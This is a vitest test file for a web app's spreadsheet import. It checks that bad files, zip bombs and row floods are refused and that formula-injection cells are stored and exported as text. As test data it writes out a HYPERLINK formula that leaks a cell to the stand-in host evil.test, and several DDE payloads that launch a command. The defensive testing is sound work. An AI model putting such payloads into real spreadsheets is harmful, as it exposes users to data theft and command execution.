import { readFileSync, writeFileSync } from 'node:fs';
import { inflateRawSync } from 'node:zlib';
import { inArray } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { materials } from '../../src/server/db/schema';
import { zipEntries } from '../../src/server/http/zipEntries';
import { onPostgres, startTestServer, type TestServer } from '../api/server';
import { bombOf, generatedWorkbook, workbookOf } from './xlsxFiles';

/**
 * Uploads that try the import: files that are not workbooks, damaged ones, too
 * big ones, zip bombs, too many rows and formula payloads. Each is refused with a clear
 * message in the envelope, or stored and exported as plain text; the server's memory stays
 * bounded and it answers other calls meanwhile. Reading a file does not depend on the
 * database, so these run on the embedded one only.
 */
let server: TestServer;
let admin: string;
beforeAll(async () => {
  if (onPostgres) return;
  server = await startTestServer({ LOGIN_RATE_LIMIT: '1000' });
  admin = await server.login('admin');
});
afterAll(async () => { await server?.stop(); });

type Answer = { code: number; msg: string; data: { imported?: number; errors?: { row: number; message: string }[] } | null };
const upload = (path: string, body: Buffer | string) =>
  fetch(`${server.url}/fms/api/v1${path}?lang=en-US`, {
    method: 'POST', headers: { token: admin, 'content-type': 'application/octet-stream' }, body: typeof body === 'string' ? body : new Uint8Array(body),
  }).then(async (res) => ({ status: res.status, body: (await res.json()) as Answer }));
const importDict = (body: Buffer | string) => upload('/system/dict/data/import', body);

const DICT_HEADER = ['Type', 'Value', 'Label (Chinese)', 'Label (English)', 'Sort'];
const MATERIAL_HEADER = ['Material code', 'Material name', 'Brand', 'Specification', 'Pattern', 'Load index', 'Speed index', 'Unit', 'Price', 'Source', 'ERP code', 'Status'];

/**
 * The most this process's resident memory grew above its level at the start while `work`
 * ran (the test server runs in this process): the kernel's high-water mark, reset first, so
 * a peak between two samples is not missed.
 */
async function peakGrowthMb(work: () => Promise<unknown>): Promise<number> {
  const highWater = () => Number(/VmHWM:\s+(\d+) kB/.exec(readFileSync('/proc/self/status', 'utf8'))![1]) * 1024;
  writeFileSync('/proc/self/clear_refs', '5');
  const before = process.memoryUsage().rss;
  await work();
  return (highWater() - before) / 1024 / 1024;
}

/** The text of one part of an xlsx file. */
function partOf(file: Buffer, name: string): string {
  const entry = zipEntries(file, { maxSize: 1e9, maxEntries: 100 }).find((e) => e.name === name)!;
  const start = entry.offset + 30 + file.readUInt16LE(entry.offset + 26) + file.readUInt16LE(entry.offset + 28);
  const data = file.subarray(start, start + entry.compressedSize);
  return (entry.method === 0 ? data : inflateRawSync(data)).toString('utf8');
}

describe.skipIf(onPostgres)('uploads', () => {
  it('refuses a file that is not a workbook, whatever its name says', async () => {
    const png = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.alloc(200, 7)]);
    const pdf = Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n');
    // A zip, but of something else (a renamed .docx or .zip): it holds no workbook.
    const otherZip = await workbookOf([DICT_HEADER, ['source', 'A', 'a', 'a', 1]]).then((file) => Buffer.from(file.toString('latin1').replaceAll('xl/workbook.xml', 'xl/notebook.xml'), 'latin1'));
    for (const file of [png, pdf, 'Type,Value\nsource,A\n', otherZip]) {
      const res = await importDict(file);
      expect(res.status).toBe(400);
      expect(res.body).toEqual({ code: 400, msg: 'file: Only xls or xlsx files can be uploaded', data: null });
    }
  });

  it('refuses a damaged workbook and says it is damaged', async () => {
    const good = await workbookOf([DICT_HEADER, ...Array.from({ length: 300 }, (_, i) => ['source', `DMG${i}`, `损坏 ${i}`, `Damaged ${i}`, i])]);
    const truncated = good.subarray(0, Math.floor(good.length / 2));
    // Bytes of the packed sheet overwritten: the directory is intact, the data is not.
    const scrambled = Buffer.from(good);
    const sheet = zipEntries(good, { maxSize: 1e9, maxEntries: 100 }).find((e) => e.name === 'xl/worksheets/sheet1.xml')!;
    for (let i = 0; i < 64; i++) scrambled[sheet.offset + 80 + i * 7] ^= 0xa5;
    for (const file of [truncated, scrambled]) {
      const res = await importDict(file);
      expect(res.status).toBe(400);
      expect(res.body.msg).toBe('file: The file is damaged and cannot be read: save it again in Excel, then import it');
    }
  });

  it('refuses a file over the upload limit with 413 in the envelope', async () => {
    const res = await importDict(Buffer.alloc(21 * 1024 * 1024, 0x41));
    expect(res.status).toBe(413);
    expect(res.body).toEqual({ code: 413, msg: 'The request body is too large', data: null });
  });

  it('refuses a zip bomb before unpacking it, also when its directory lies about the sizes', async () => {
    // 300 MB of sheet XML in under 1 MB; then the same with the sheet claiming to be 1 MB.
    const bomb = await bombOf(300);
    const forged = await bombOf(300, (name, size) => (name === 'xl/worksheets/sheet1.xml' ? 1_000_000 : size));
    expect(bomb.length).toBeLessThan(2 * 1024 * 1024);
    let answers: Awaited<ReturnType<typeof importDict>>[] = [];
    const growth = await peakGrowthMb(async () => {
      answers = [await importDict(bomb), await importDict(forged)];
    });
    expect(answers[0].status).toBe(400);
    expect(answers[0].body.msg).toBe('file: The file unpacks to more than 100 MB: split it into smaller files, then import them');
    expect(answers[1].status).toBe(400);
    expect(answers[1].body.msg).toBe('file: The file is damaged and cannot be read: save it again in Excel, then import it');
    expect(growth, `peak memory growth ${growth.toFixed(0)} MB`).toBeLessThan(300);
  }, 120_000);

  it('refuses 200,000 rows with the row limit, in bounded memory, answering other calls meanwhile', async () => {
    const file = await generatedWorkbook(DICT_HEADER, 200_000, (n) => ['source', `BULK${n}`, `批量 ${n}`, `Bulk ${n}`, n % 1000]);
    let answer: Awaited<ReturnType<typeof importDict>> | undefined;
    let answeredMeanwhile = 0;
    const growth = await peakGrowthMb(async () => {
      const pending = importDict(file).then((res) => { answer = res; });
      while (!answer) {
        const health = await server.call('/health');
        expect(health.status).toBe(200);
        if (!answer) answeredMeanwhile += 1;
      }
      await pending;
    });
    expect(answer!.status).toBe(400);
    expect(answer!.body.msg).toBe('file: At most 50000 rows can be imported at once');
    expect(answeredMeanwhile).toBeGreaterThan(0);
    expect(growth, `peak memory growth ${growth.toFixed(0)} MB`).toBeLessThan(300);
  }, 180_000);

  it('stores cells that start with = + - @ as text and exports them as text, never as formulas', async () => {
    const payloads = ['=HYPERLINK("http://evil.test/?d="&A1,"prices")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+9)*cmd|\' /C calc\'!A0'];
    const codes = payloads.map((_, i) => `FORMULA${i}`);
    const res = await upload('/basedata/material/import', await workbookOf([
      MATERIAL_HEADER,
      ...payloads.map((p, i) => [codes[i], p, 'EP', '205/55R16 91V', p.slice(0, 20), '91', 'V', '条', 480, 'factory', '', 'normal']),
    ]));
    expect(res.status, res.body.msg).toBe(200);
    const stored = await server.services.db.select({ code: materials.code, name: materials.name }).from(materials).where(inArray(materials.code, codes));
    expect(Object.fromEntries(stored.map((m) => [m.code, m.name]))).toEqual(Object.fromEntries(codes.map((c, i) => [c, payloads[i]])));

    const exported = await fetch(`${server.url}/fms/api/v1/basedata/material/export?lang=en-US`, {
      method: 'POST', headers: { token: admin, 'content-type': 'application/json' }, body: JSON.stringify({ keyword: 'FORMULA' }),
    });
    const file = Buffer.from(await exported.arrayBuffer());
    // No formula anywhere in the sheet, and each payload is a string cell showing exactly what was stored.
    expect(partOf(file, 'xl/worksheets/sheet1.xml')).not.toMatch(/<f[ >]/);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(file as unknown as ArrayBuffer);
    const cells = new Map<string, ExcelJS.Cell>();
    workbook.worksheets[0].eachRow((row) => row.eachCell((cell) => { cells.set(String(cell.value), cell); }));
    for (const payload of payloads) {
      expect(cells.get(payload)?.type, payload).toBe(ExcelJS.ValueType.String);
      expect(cells.get(payload)?.formula, payload).toBeUndefined();
    }
  });
});
